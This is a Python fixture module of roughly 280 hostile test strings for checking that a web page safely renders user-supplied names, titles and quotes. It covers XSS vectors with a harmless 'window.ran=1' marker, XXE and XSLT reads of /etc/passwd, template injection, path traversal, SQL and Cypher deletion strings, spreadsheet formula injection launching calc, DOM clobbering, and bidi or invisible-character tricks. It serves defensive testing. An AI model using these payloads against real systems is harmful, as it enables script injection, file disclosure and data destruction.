# ruff: noqa: E501  # tables that are wider than a page
"""Words made to break pages: what a name, a title, an address or a quote may hold that somebody means ill with.

All that can run sets `window.ran`. Nothing here is true of anyone.
"""

from __future__ import annotations

from collections.abc import Mapping

RAN = "window.ran=1"

_SCRIPT = (
    "<script>{run}</script>", "</script><script>{run}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<!--<script>", "--><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>",
    "]]></style><script>{run}</script>", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</noscript><script>{run}</script>", "<script type=module>{run}</script>", "<noscript><p title=\"</noscript><script>{run}</script>\">",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}", "%3Cscript%3E{run}%3C/script%3E",
    "<script\x0c>{run}</script\x0c>", "<\x00script>{run}</script>", "＜script＞{run}＜/script＞",
)  # fmt: skip
_EVENTS = (
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'", "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>",
    "<body onload={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<input autofocus onfocus={run}>", "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<marquee onstart={run}>", "<iframe onload={run}></iframe>",
    "<object data=\"javascript:{run}\">", "<embed src=\"javascript:{run}\">", "<isindex type=image src=1 onerror={run}>",
    "<select autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>", "<a onmouseover={run}>hover</a>", "\" onmouseover=\"{run}",
    "' onfocus='{run}' autofocus='", "x\" style=\"animation-name:x\" onanimationstart=\"{run}", "<p/onclick={run}>click", "<form><button formaction=javascript:{run}>",
    "<math><mi xlink:href=\"javascript:{run}\">x</mi></math>", "<table background=\"javascript:{run}\">", "<base href=\"javascript:{run}//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">", "<link rel=stylesheet href=\"javascript:{run}\">", "<template><img src=x onerror={run}></template>",
)  # fmt: skip
_DRAWINGS = (
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{run}\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"/></svg>", "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><set attributeName=href to=\"javascript:{run}\">", "</text><script>{run}</script>", "</svg><script>{run}</script>", "</desc></title></text></g></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={run}>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<!ENTITY a \"&b;&b;\">", "<?php echo 1 ?>",
    "<xsl:value-of select=\"document('file:///etc/passwd')\"/>", "<image href=\"https://evil.example/x.png\"/>",
)  # fmt: skip
_LINKS = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}",
    "javascript&colon;{run}", "&#106;avascript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload={run}>", "blob:null/{run}",
    "file:///etc/passwd", "filesystem:file:///temporary/x", "//evil.example/x", "\\\\evil.example\\share", "https:evil.example", "http:/\\evil.example",
    "https://user:{run}@evil.example/", "https://evil.example/\"onmouseover=\"{run}", "https://evil.example/'><script>{run}</script>",
    "https://evil.example/{{{{7*7}}}}?q=<img src=x onerror={run}>#\u202e", "http://[::1]:80/<b>", "https://evil.example/%00%0d%0aSet-Cookie:x", "view-source:https://evil.example",
    "feed:javascript:{run}", "livescript:{run}", "mhtml:https://evil.example", "about:blank#{run}", "#entity/__proto__", "#link/constructor/toString", "#article/%E0%A4%A/NaN",
    "#path/%/%", "?entity=<script>{run}</script>", "../../../../etc/passwd", "C:\\Windows\\System32\\cmd.exe", "https://evil.example/" + "a" * 3000,
)  # fmt: skip
_HREF = (
    "href", "href=\"javascript:{run}\"", "<a href='javascript:{run}'>href</a>", "title with href in it", "<a href=x>", "HREF=JAVASCRIPT:{run}",
    "xlink:href", "srcdoc=\"<script>{run}</script>\"", "innerHTML", "outerHTML", "<a id=home href=javascript:{run}>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}", "{{% raw %}}", "{{% endraw %}}{{{{ config }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{# comment #}}", "{{% include '/etc/passwd' %}}",
    "${{window.ran=1}}", "#{{window.ran=1}}", "`${{window.ran=1}}`", "<%= {run} %>", "[[{run}]]", "{{{{constructor.constructor('{run}')()}}}}", "{{0}} {{n}} {{name}} {{speaker}}",
    "{{n}}", "{{reason}}", "$& $1 $` $'", "%s %d %n %(name)s", "{{0.__class__}}", "\\1 \\g<0>", "{{", "}}", "{{%", "%}}",
)  # fmt: skip
_NAMES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then", "length", "name", "id", "undefined", "null", "NaN", "true",
    "-1", "0", "1e308", "Infinity", "[object Object]", "__proto__.ran", "constructor.prototype", "data", "words", "default", "in", "out", "one", "other",
)  # fmt: skip
_CLOBBER = (
    "<form id=panel><input name=append></form>", "<a id=words></a>", "<img name=body>", "<form name=documentElement>", "<a id=case href=x>", "<input id=search>", "<form id=canvas><input name=parentNode>",
    "<iframe name=self srcdoc=x>", "<a id=vis><a id=vis name=Network>",
)  # fmt: skip
_STYLES = (
    "url(javascript:{run})", "background:url(https://evil.example/x.png)", "expression({run})", "@import 'https://evil.example/x.css';", "</style><img src=x onerror={run}>",
    "x{{}}*{{background:url(//evil.example)}}", "style=\"position:fixed;inset:0;z-index:99999\"", "<style>*{{display:none}}</style>", "--x:url(//evil.example)", "\\65 xpression({run})",
)  # fmt: skip
_UNSEEN = (
    "\u202eevil\u202c", "\u202e", "\u2066\u2067\u2068 never closed", "\u200f\u200e\u061c", "شركة <b>نور</b> للتجارة", "حسن \u202d123\u202e", "\u05d0\u05d1\u05d2 (abc) \u05d3",
    "zero\u200bwidth\u200cjoin\u200der\ufeff", "\u200b", "\u2060\u2061\u2062", "\ufeff", "soft\u00adhyphen", "line\u2028separator", "paragraph\u2029separator", "next\u0085line",
    "nul\x00byte", "\x00", "bell\x07escape\x1b[31mred\x1b]0;title\x07", "back\x08space\x7f", "\r\n\r\n<script>{run}</script>", "\t\ttabs\t\t", "\x0b\x0c", " ", "   ", "\u3000", "\u00a0",
    "half \ud83d of a pair", "\udc00 other half", "\ud83d", "private \ue000 use", "not a \ufffe character \uffff", "tag \U000e0041\U000e007f", "\ufdd0",
)  # fmt: skip
_STORMS = (
    "Z" + "\u0335\u0321\u0353\u0310" * 60 + "algo", "e" + "\u0301" * 400, "\u0488" * 40, "ก" + "\u0e34\u0e48" * 80, "👩‍👩‍👧‍👦" * 30, "🏳️‍🌈🏴‍☠️👨🏿‍🚀", "🇦🇧🇨🇩🇪", "👍🏻" * 40, "\U0001f9d1\u200d" * 30,
    "ﷺ" * 60, "꧅" * 40, "𒐫" * 40, "﷽" * 40, "W" * 300, "i" * 500, "漢" * 400, "supercalifragilistic" * 50, "a-" * 300, "a/" * 300, "A" * 10_000, "word " * 2_000, "<b>" * 3_000, "\u202e" * 2_000,
    "(" * 500, "ab\n" * 400, "\u00ad" * 300 + "end", "ﬀﬁﬂ", "ǅ İ ı ſ", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "Ω ≠ Ω", "\u1100" * 200,
)  # fmt: skip
_TABLES = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\"; DROP TABLE entity; --", "' OR '1'='1", "Robert'); DROP TABLE claims;--", "a,b;c\td|e", "\"quoted\" 'twice'",
    "\\", "\\\\n", "|", "# heading", "[text](javascript:{run})", "![x](https://evil.example/x.png)", "<https://evil.example>", "```\nfence\n```", "***", "| a | b |\n|---|---|", "1. list", "> quote",
    "<!-- comment", "-->", "&", "&amp;", "&nbsp;", "&bogus;", "&#x0;", "&#xD800;", "\\u0000", "%", "%00", "MATCH (n) DETACH DELETE n", "`backtick`",
)  # fmt: skip

KINDS: Mapping[str, tuple[str, ...]] = {
    name: tuple(text.format(run=RAN) for text in texts)
    for name, texts in {
        "scripts": _SCRIPT, "events": _EVENTS, "drawings": _DRAWINGS, "links": _LINKS, "href": _HREF, "templates": _TEMPLATES,
        "names": _NAMES, "clobber": _CLOBBER, "styles": _STYLES, "unseen": _UNSEEN, "storms": _STORMS, "tables": _TABLES,
    }.items()
}  # fmt: skip
"""The words by what they try."""

WORDS: tuple[str, ...] = tuple(word for words in KINDS.values() for word in words)
"""All of them, some 280."""
